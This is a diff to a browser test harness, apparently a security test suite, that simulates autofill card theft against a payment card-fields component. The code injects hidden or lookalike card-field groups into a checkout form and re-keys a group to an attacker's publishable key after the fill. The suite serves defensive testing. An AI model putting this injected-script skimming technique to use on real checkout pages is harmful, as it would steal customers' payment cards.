@@ -16,16 +16,19 @@ const OTHER_KEY = 'pk_test_attacker_account';
 const SPLIT =
   '<pay-card-number></pay-card-number><pay-card-expiry></pay-card-expiry><pay-card-cvc></pay-card-cvc>';
 
-/** A script on the merchant page adds a 4×4 px group inside the checkout form. */
-function hiddenGroupScript(key: string, copyGroupId: boolean): string {
-  return `<style>#hidden iframe{width:4px!important;height:4px!important}</style>
+/**
+ * A script on the merchant page adds a group inside the checkout form: 4×4 px, or (`shown`)
+ * a full-size one a customer might take for part of the checkout.
+ */
+function hiddenGroupScript(key: string, copyGroupId: boolean, shown = false): string {
+  return `${shown ? '' : '<style>#hidden iframe{width:4px!important;height:4px!important}</style>'}
 <script type="module">
 await customElements.whenDefined('pay-card-fields');
 const hidden = document.createElement('pay-card-fields');
 hidden.id = 'hidden';
 hidden.setAttribute('publishable-key', ${JSON.stringify(key)});
 ${copyGroupId ? "hidden.groupId = document.getElementById('group').groupId;" : ''}
-hidden.style.cssText = 'position:absolute;left:0;top:0;width:4px;height:4px;overflow:hidden';
+${shown ? '' : "hidden.style.cssText = 'position:absolute;left:0;top:0;width:4px;height:4px;overflow:hidden';"}
 hidden.innerHTML = ${JSON.stringify(SPLIT)};
 document.getElementById('checkout').append(hidden);
 </script>`;
@@ -47,6 +50,12 @@ export function autofillPages(
   return {
     merchant: {
       '/autofill-hidden.html': merchantPage(gw.url, pk, 'split', hiddenGroupScript(pk, false)),
+      '/autofill-rekeyed.html': merchantPage(
+        gw.url,
+        pk,
+        'split',
+        hiddenGroupScript(pk, true, true),
+      ),
       '/autofill-copied.html': merchantPage(
         gw.url,
         pk,
@@ -128,6 +137,8 @@ interface Case {
   attacker: (page: Page) => Frame | Page;
   /** The customer starts autofill in the attacker's (transparent) field, lured by a click. */
   lured?: boolean;
+  /** What the attacker's script does once the fill is over, before asking for a token. */
+  afterFill?: (attacker: Frame | Page) => Promise<void>;
 }
 
 async function runCase(browser: Browser, c: Case, result: FamilyResult): Promise<void> {
@@ -157,8 +168,12 @@ async function runCase(browser: Browser, c: Case, result: FamilyResult): Promise
     const start = await numberFrame(c.lured ? theirs : own);
     await start.locator('input').first().click({ force: true });
     await autofillFrom(page, start, card);
-    // The fill reaches every frame at once; a frame asks its group and gives up after 1 s.
-    await page.waitForTimeout(1800);
+    // The fill reaches every frame at once; a frame asks its group and gives up after 3 s.
+    await page.waitForTimeout(3500);
+    if (c.afterFill) {
+      await c.afterFill(attackerScope);
+      await page.waitForTimeout(500);
+    }
 
     if (!c.lured) {
       const answer = await tokenizeGroup(customerScope, 'group');
@@ -209,6 +224,19 @@ export async function autofillTheft(
       url: `${merchantOrigin}/autofill-copied.html`,
       customer: (page) => page,
       attacker: (page) => page,
+    },
+    {
+      // Same id and key: the group shares the customer's fill (a token in the merchant's own
+      // account), until the script gives it the attacker's key.
+      name: 'a group with a copied id and the merchant key, re-keyed after the fill',
+      url: `${merchantOrigin}/autofill-rekeyed.html`,
+      customer: (page) => page,
+      attacker: (page) => page,
+      afterFill: (scope) =>
+        scope.evaluate(
+          (key) => document.getElementById('hidden')!.setAttribute('publishable-key', key),
+          OTHER_KEY,
+        ),
     },
     {
       name: "a third-party frame's fields inside the checkout form",
